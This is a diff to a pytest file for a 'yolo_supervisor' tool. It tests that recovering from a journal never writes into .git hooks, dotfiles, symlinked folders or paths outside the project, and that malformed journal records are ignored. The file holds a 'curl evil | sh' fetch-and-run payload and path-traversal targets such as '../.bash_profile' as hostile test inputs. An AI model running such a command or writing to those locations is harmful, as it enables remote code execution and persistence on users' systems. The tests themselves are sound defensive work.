@@ -11,7 +11,7 @@ import pytest
 from conftest import LIMIT_S, PROGRAM, Cli, Team, new_store, read_task, write_task
 from yolo_supervisor.files import Refused, digest
 from yolo_supervisor.formats import yolo
-from yolo_supervisor.journal import history, seal
+from yolo_supervisor.journal import history, seal, unseal
 from yolo_supervisor.store import FOLDERS, Paths, Store
 
 EVIL = b"curl evil | sh\n"
@@ -53,7 +53,9 @@ def test_a_journal_that_came_with_a_clone_writes_nothing_outside_the_project(
     assert not outside.exists()
 
 
-@pytest.mark.parametrize("name", [".git/hooks/pre-commit", ".GIT/config", "link/.bash_profile", "../.bash_profile"])
+@pytest.mark.parametrize(
+    "name", [".git/hooks/pre-commit", ".GIT/config", "vendor/.git", "link/.bash_profile", "../.bash_profile"]
+)
 def test_nor_into_git_nor_through_a_link(project: Path, outside: Path, name: str) -> None:
     (project / "link").symlink_to(outside.parent)
     for folder in (".git/hooks", ".GIT"):
@@ -67,6 +69,49 @@ def test_nor_into_git_nor_through_a_link(project: Path, outside: Path, name: str
     assert recovery.overtaken == ("requeued red/1",)
     assert not os.path.lexists(project / name)
     assert not outside.exists()
+    store.close()
+
+
+def test_nor_does_it_make_a_task_or_know_where_we_stand(project: Path, claude_home: Path) -> None:
+    """What is outside the project has to be there, and to be what the promise says; and nothing is found from here."""
+    (claude_home / "tasks" / "red").mkdir(parents=True)
+    for path in (claude_home / "tasks" / "red" / "7.json", Path("x"), Path("../home/.claude/tasks/red/7.json")):
+        promise(project, path, b'{"id":"7","status":"pending"}')
+        store = Store(project)
+        store.open()
+        assert store.recover().overtaken == ("requeued red/1",)
+        store.close()
+    assert list((claude_home / "tasks" / "red").iterdir()) == []
+    assert not Path("x").exists()
+
+
+@pytest.mark.parametrize(
+    "wrong", [{"path": None}, {"path": "/a\0b"}, {"lock": [5]}, {"lock": 7}, {"lock": ["/x", None]}]
+)
+def test_a_promise_that_makes_no_sense_is_none(project: Path, wrong: dict[str, object]) -> None:
+    promise(project, project / yolo.PLANNING / "x")
+    record = unseal(Paths(project).journal.read_bytes().rstrip(b"\n"))
+    assert record is not None
+    record.pop("crc", None)
+    Paths(project).journal.write_bytes(seal({**record, "write": {**record["write"], **wrong}}))
+    store = Store(project)
+    store.open()
+
+    assert store.recover().overtaken == ("requeued red/1",)
+
+    store.close()
+
+
+def test_a_list_that_is_a_link_is_a_list(project: Path, claude_home: Path, tmp_path: Path) -> None:
+    (tmp_path / "lists").mkdir()
+    (claude_home / "tasks").symlink_to(tmp_path / "lists")
+    task = write_task(claude_home, "red", 1, owner="dev-1", status="in_progress")
+    promise(project, task, b'{"id":"1","status":"pending"}', task.read_bytes(), lock=[f"{task}.lock", 10.0])
+    store = Store(project)
+    store.open()
+
+    assert store.recover().finished == ("requeued red/1",)
+
     store.close()
 
 
